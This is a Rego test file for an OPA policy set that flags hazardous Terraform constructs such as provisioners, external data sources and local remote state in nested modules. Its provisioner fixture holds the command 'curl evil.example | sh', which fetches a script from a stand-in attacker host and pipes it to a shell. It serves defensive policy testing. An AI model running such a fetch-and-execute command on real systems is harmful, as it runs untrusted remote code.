package stackward.code_hazards_test

import data.stackward.code_hazards
import rego.v1

# Shapes as `terraform show -json` writes them (configuration section, Terraform 1.11).
provisioned(type) := {
	"address": "terraform_data.hook",
	"mode": "managed",
	"type": "terraform_data",
	"name": "hook",
	"provisioners": [{"type": type, "expressions": {"command": {"constant_value": "curl evil.example | sh"}}}],
}

data_block(type, expressions) := {
	"address": sprintf("data.%s.x", [type]),
	"mode": "data",
	"type": type,
	"name": "x",
	"expressions": expressions,
}

# The Infrastructure document `base` calls a module that calls `inner`, which holds `resources`.
plan_with(resources) := {
	"resources": [{"kind": "Infrastructure", "name": "base", "spec": {"source": "../_modules/base"}}],
	"terraform_plan": {"configuration": {"root_module": {"module_calls": {"base": {
		"source": "../_modules/base",
		"module": {
			"resources": [{"address": "terraform_data.ok", "mode": "managed", "type": "terraform_data", "name": "ok"}],
			"module_calls": {"inner": {"source": "./inner", "module": {"resources": resources}}},
		},
	}}}}},
}

test_local_exec_in_a_nested_module_is_denied if {
	results := code_hazards.deny_provisioner with input as plan_with([provisioned("local-exec")])
	count(results) == 1
	some r in results
	r.policy_id == "SW011"
	r.resource == "Infrastructure/base"
	r.msg == "Infrastructure/base (module ../_modules/base) has a local-exec provisioner on module.base.module.inner.terraform_data.hook: it would run commands from this change on the machine that applies"
}

test_remote_exec_and_file_provisioners_are_denied if {
	count(code_hazards.deny_provisioner) == 1 with input as plan_with([provisioned("remote-exec")])
	count(code_hazards.deny_provisioner) == 1 with input as plan_with([provisioned("file")])
}

test_provisioner_in_the_root_module_is_denied if {
	results := code_hazards.deny_provisioner with input as {"terraform_plan": {"configuration": {"root_module": {"resources": [provisioned("local-exec")]}}}}
	some r in results
	startswith(r.msg, "the root module has a local-exec provisioner on terraform_data.hook")
}

test_resources_without_provisioners_pass if {
	count(code_hazards.deny_provisioner) == 0 with input as plan_with([])
	count(code_hazards.deny_provisioner) == 0 with input as {"terraform_plan": null}
	count(code_hazards.deny_provisioner) == 0 with input as {}
}

test_a_resources_key_inside_expressions_is_not_a_block if {
	block := object.union(provisioned("local-exec"), {"address": "x.y"})
	nested := {"address": "terraform_data.ok", "mode": "managed", "expressions": {"resources": [block]}}
	count(code_hazards.deny_provisioner) == 0 with input as plan_with([nested])
}

test_external_data_source_is_denied if {
	results := code_hazards.deny_external_data with input as plan_with([data_block("external", {"program": {"constant_value": ["sh", "x.sh"]}})])
	some r in results
	r.policy_id == "SW012"
	contains(r.msg, "reads module.base.module.inner.data.external.x")
}

test_local_remote_state_is_denied if {
	literal := data_block("terraform_remote_state", {"backend": {"constant_value": "local"}})
	results := code_hazards.deny_local_remote_state with input as plan_with([literal])
	some r in results
	r.policy_id == "SW013"
	contains(r.msg, "reads module.base.module.inner.data.terraform_remote_state.x from a local backend")
}

test_remote_state_backend_that_is_not_a_literal_is_denied if {
	variable := data_block("terraform_remote_state", {"backend": {"references": ["var.b"]}})
	count(code_hazards.deny_local_remote_state) == 1 with input as plan_with([variable])
}

test_remote_state_from_a_remote_backend_passes if {
	gcs := data_block("terraform_remote_state", {"backend": {"constant_value": "gcs"}})
	count(code_hazards.deny_local_remote_state) == 0 with input as plan_with([gcs])
}
